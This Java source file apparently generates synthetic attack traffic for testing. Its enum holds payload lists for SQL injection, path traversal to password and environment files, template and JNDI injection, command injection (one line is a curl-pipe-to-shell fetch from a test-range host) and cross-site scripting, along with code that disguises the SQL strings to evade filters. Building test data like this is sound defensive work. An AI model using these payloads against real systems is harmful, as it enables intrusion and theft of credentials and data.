package io.gatewatch.replaydata.generate;

import java.util.Locale;

/** Texts with which people try whether a server takes data for code. None of them does anything. */
final class Payloads {
  /** What the text is made for. */
  enum Family {
    SQL(
        "1' OR '1'='1",
        "1' OR 1=1-- -",
        "x' or 'a'='a",
        "1 UNION SELECT username,password FROM users--",
        "-1 union all select null,null,concat(user,0x3a)",
        "1';WAITFOR DELAY '0:0:5'--",
        "1) AND SLEEP(5)#",
        "1 and (select 1 from pg_sleep(5))",
        "1'||(SELECT extractvalue(1,concat(0x7e,version())))||'",
        "1; DROP TABLE accounts; --",
        "admin'-- ",
        "1 ORDER BY 14-- -",
        "(select table_name from information_schema.tables limit 1)",
        "' AND 1=CONVERT(int,@@version)--"),
    TRAVERSAL(
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fshadow",
        "%2e%2e%2f%2e%2e%2fconfig",
        "..%c0%af..%c0%afetc/passwd",
        "....//....//....//etc/hosts",
        "..\\..\\..\\windows\\win.ini",
        "/var/www/../../etc/passwd",
        "../../../../proc/self/environ",
        "../../../../../opt/app/settings.yml%00.png",
        "..;/..;/manager/html"),
    TEMPLATE(
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "%{(#a=@java.lang.System@getenv())}",
        "${${lower:j}ndi:dns://198.18.0.77/a}",
        "${jndi:ldap://198.18.0.77/a}"),
    COMMAND(
        ";id",
        "|cat /etc/passwd",
        "$(sleep 5)",
        "`whoami`",
        "&& ping -c 3 198.18.0.77",
        "; curl http://198.18.0.77/x | sh",
        "|nslookup a.198.18.0.77.example",
        ";cat${IFS}/etc/hosts",
        "a;uname -a",
        "() { :; }; /bin/cat /etc/passwd"),
    SCRIPT(
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=confirm`1`>",
        "' autofocus onfocus=alert(document.domain) x='",
        "javascript:alert(document.cookie)",
        "</script><iframe src=//198.18.0.77>");

    private final String[] texts;

    Family(String... texts) {
      this.texts = texts;
    }
  }

  private Payloads() {}

  /** One of the family, with a scatter of its own so that no two attacks are alike. */
  static String draw(Family family, Draw draw) {
    String text = draw.pick(family.texts);
    String varied =
        text.replace("7*7", draw.below(90) + "*" + (2 + draw.below(90)))
            .replace("5)", (2 + draw.below(9)) + ")")
            .replace("1=1", draw.chance(0.5) ? "1=1" : "2>1");
    return family == Family.SQL ? disguised(varied, draw) : varied;
  }

  /** In another case, or with comments for spaces, as filters are tried. */
  private static String disguised(String text, Draw draw) {
    double how = draw.unit();
    if (how < 0.15) {
      return text.replace(" ", "/**/");
    }
    if (how < 0.3) {
      return text.toLowerCase(Locale.ROOT);
    }
    return how < 0.4 ? text.toUpperCase(Locale.ROOT) : text;
  }
}
